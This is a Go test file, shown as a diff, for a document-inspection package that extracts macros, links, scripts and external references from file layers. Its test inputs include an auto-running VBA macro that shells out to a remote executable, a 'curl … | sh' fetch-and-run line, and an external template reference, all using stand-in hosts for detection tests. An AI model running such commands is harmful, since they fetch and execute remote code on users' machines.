@@ -1,0 +1,94 @@
+package explain
+
+import (
+	"fmt"
+	"slices"
+	"strings"
+	"testing"
+
+	"github.com/showcause/showcause"
+	"github.com/showcause/showcause/filetype"
+)
+
+func of(op, name, content string) (out []string) {
+	src := showcause.Bytes(content)
+	l := showcause.Layer{Source: src}
+	if op != "" {
+		l.Trail = showcause.Trail{{Op: op, Name: name}}
+	}
+	Layer(l, filetype.Detect(src, src), func(f Fact) { out = append(out, f.Kind.String()+": "+f.Text) })
+	return out
+}
+
+func wide(s string) string {
+	var b strings.Builder
+	for _, c := range []byte(s) {
+		b.WriteByte(c)
+		b.WriteByte(0)
+	}
+	return b.String()
+}
+
+func TestLayer(t *testing.T) {
+	const rels = `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">` +
+		`<Relationship Id="1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://x.example/t.dotm?a=1&amp;b=2" TargetMode="External"/>` +
+		`<Relationship Id="2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="media/1.png"/></Relationships>`
+	for _, c := range []struct {
+		op, name, content string
+		want              []string
+	}{
+		{"vba.source", "Module1", "Sub AutoOpen()\r\nShell \"http://x.example/a.exe\"\r\n", []string{"macros: Sub AutoOpen()\r\nShell \"http://x.example/a.exe\"", "links: http://x.example/a.exe"}},
+		{"pdf.actions", "", "URI https://x.example/\n", []string{"actions: URI https://x.example/", "links: https://x.example/"}},
+		{"zip.deflate", "word/_rels/document.xml.rels", rels, []string{"external references: attachedTemplate https://x.example/t.dotm?a=1&b=2"}},
+		{"zip.deflate", "word/embeddings/oleObject1.bin", "abc", []string{"embedded files: embedded object"}},
+		{"mime.base64", "report.exe", "abc", []string{"embedded files: attachment"}},
+		{"mime.7bit", "", "see (http://x.example/a_(b)), or ftp://y.example.\nhttp://x.example/a_(b)", []string{"links: http://x.example/a_(b))", "links: ftp://y.example", "links: http://x.example/a_(b)"}},
+		{"", "", "<html><body><script type='a'>alert(1)</script><a href=\"https&#58;//x.example/?a&amp;b\">x</a><a href='javascript:f(&quot;2&quot;)'>", []string{"scripts: alert(1)", "scripts: javascript:f(\"2\")", "links: https://x.example/?a&b"}},
+		{"", "", "<?xml version=\"1.0\"?><a xmlns=\"http://www.w3.org/1999/xhtml\" b=\"smb://h/s\"/>", []string{"links: smb://h/s"}},
+		{"cfb.stream", "WordDocument", "\x01\x02" + wide("HYPERLINK \"http://w.example/ä\"") + "\x00\x00", []string{"links: http://w.example/\xc3\xa4"}},
+		{"zip.deflate", "Basic/Standard/Module1.xml", `<?xml version="1.0"?><script:module xmlns:script="x" script:name="a">Sub Main&#10;  x = &quot;1&quot;
+End Sub</script:module>`, []string{"macros: Sub Main\n  x = \"1\"\nEnd Sub"}},
+		{"", "", "nothing of it: a://, :// and 1://x are none", nil},
+		{"", "", "#!/bin/sh\ncurl http://x.example/p | sh\n", []string{"scripts: #!/bin/sh\ncurl http://x.example/p | sh", "links: http://x.example/p"}},
+	} {
+		if got := of(c.op, c.name, c.content); !slices.Equal(got, c.want) {
+			t.Errorf("%s %s:\n%q, want\n%q", c.op, c.name, got, c.want)
+		}
+	}
+}
+
+// What is told of one layer is bounded, and it says where something was left out.
+func TestBounds(t *testing.T) {
+	var b strings.Builder
+	for i := range 3 * maxFacts {
+		fmt.Fprintf(&b, "http://x.example/%d\n", i)
+	}
+	if got := of("", "", b.String()); len(got) != maxFacts {
+		t.Errorf("%d links", len(got))
+	}
+	src := showcause.Bytes(strings.Repeat("x", MaxText+1))
+	Layer(showcause.Layer{Source: src, Trail: showcause.Trail{{Op: "vba.source"}}}, filetype.Text, func(f Fact) {
+		if !f.Cut || len(f.Text) != MaxText {
+			t.Errorf("%d bytes, cut %v", len(f.Text), f.Cut)
+		}
+	})
+}
+
+// FuzzLayer: whatever a layer holds, facts are of known kinds and bounded.
+func FuzzLayer(f *testing.F) {
+	for _, s := range []string{"http://a.example/", "<script>x</script>", "<?xml?><Relationship TargetMode='External' Target='x'/>", "<script:module a>x", wide("http://a")} {
+		for _, name := range []string{"", "a.rels", "Basic/a.xml"} {
+			f.Add(name, s)
+		}
+	}
+	f.Fuzz(func(t *testing.T, name, s string) {
+		n := 0
+		for _, op := range []string{"zip.deflate", "vba.source"} {
+			Layer(showcause.Layer{Source: showcause.Bytes(s), Trail: showcause.Trail{{Op: op, Name: name}}}, filetype.HTML, func(f Fact) {
+				if n++; f.Kind >= kinds || f.Text == "" || len(f.Text) > MaxText || n > 2*len(Kinds())*maxFacts {
+					t.Errorf("%d: %+v", n, f)
+				}
+			})
+		}
+	})
+}
